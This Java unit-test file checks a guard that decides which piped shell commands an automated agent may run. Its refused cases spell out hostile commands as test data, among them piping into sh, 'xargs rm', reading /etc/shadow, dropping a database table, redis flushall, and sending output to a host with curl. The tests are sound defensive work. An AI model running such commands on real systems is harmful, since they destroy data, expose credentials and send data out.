package io.flyball.catalogue.programs;

import static org.assertj.core.api.Assertions.assertThat;

import io.flyball.catalogue.CommandPermission;
import io.flyball.catalogue.ToolEffect;
import java.util.List;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayName("SBX-1 commands that are joined by pipes")
class PipeGuardTest {
    private final PipeGuard guard = new PipeGuard(ProgramGrammars.builtIn());
    private final Reach logs = new AgentReach(List.of("/var/log/**"), List.of());

    @ParameterizedTest(name = "SBX-1 {0} may run")
    @ValueSource(
            strings = {
                "ps aux | grep nginx",
                "ps aux | grep '[n]ginx' | wc -l",
                "tail -n 50 /var/log/app.log | grep -v DEBUG | sort | uniq -c | sort -rn | head -n 5",
                "kubectl get pods -o json | jq '.items[].metadata.name'",
                "grep -c 'a|b' /var/log/app.log",
                "df -h"
            })
    void allowed(String line) {
        assertThat(decide(line)).isInstanceOf(PipeDecision.Allowed.class);
    }

    @ParameterizedTest(name = "SBX-1 {0} may not run")
    @ValueSource(
            strings = {
                "ps aux | sh",
                "ps aux | xargs rm",
                "echo x | tee /etc/motd",
                "echo 'drop table users' | psql",
                "echo flushall | redis-cli",
                "echo GET | openssl s_client -connect a:443",
                "cat /etc/shadow | grep root",
                "ps aux | grep -f /etc/shadow",
                "ps aux | sed -f -",
                "ps aux | sed 's/x/id/e'",
                "ps aux | awk '{system($1)}'",
                "ps aux | sort -o /var/log/app.log",
                "ps aux | kubectl apply -f -",
                "ps aux | curl -d @- http://a",
                "deployctl restart shop | grep done"
            })
    void refused(String line) {
        assertThat(decide(line)).isInstanceOf(PipeDecision.Refused.class);
    }

    @Test
    @DisplayName("SBX-1 a refusal says what may stand behind a pipe")
    void saysWhat() {
        assertThat(decide("echo flushall | redis-cli --stat"))
                .isInstanceOfSatisfying(
                        PipeDecision.Refused.class,
                        refused -> assertThat(refused.reason()).contains("redis-cli"));
        assertThat(decide("ps aux | date"))
                .isInstanceOfSatisfying(
                        PipeDecision.Refused.class,
                        refused -> assertThat(refused.reason()).contains("behind a pipe", "grep"));
    }

    @Test
    @DisplayName("SBX-1 every filter has a grammar, which says what it may not do")
    void described() {
        assertThat(Filters.names())
                .allMatch(name -> ProgramGrammars.builtIn().of(name).isPresent());
    }

    @Test
    @DisplayName("SBX-1 a change is never part of a pipe, even where its agent may make it")
    void changesAlone() {
        List<CommandPermission> restart = List.of(
                permission(List.of("deployctl", "restart", "shop"), ToolEffect.CHANGE),
                permission(List.of("grep", "**"), ToolEffect.READ));
        var commands = ShellPipe.of("deployctl restart shop | grep done").orElseThrow();

        assertThat(guard.decide(commands, null, restart, logs)).isInstanceOf(PipeDecision.Refused.class);
        assertThat(guard.decide(commands.subList(0, 1), null, restart, logs)).isInstanceOf(PipeDecision.Allowed.class);
    }

    /** Every program of the line may be run with any arguments, as far as its grammar lets it read. */
    private PipeDecision decide(String line) {
        List<List<String>> commands = ShellPipe.of(line).orElseThrow();
        List<CommandPermission> all = commands.stream()
                .map(argv -> permission(List.of(argv.getFirst(), "**"), ToolEffect.READ))
                .toList();
        return guard.decide(commands, null, all, logs);
    }

    private static CommandPermission permission(List<String> argv, ToolEffect effect) {
        return new CommandPermission(argv, effect, "read", true);
    }
}
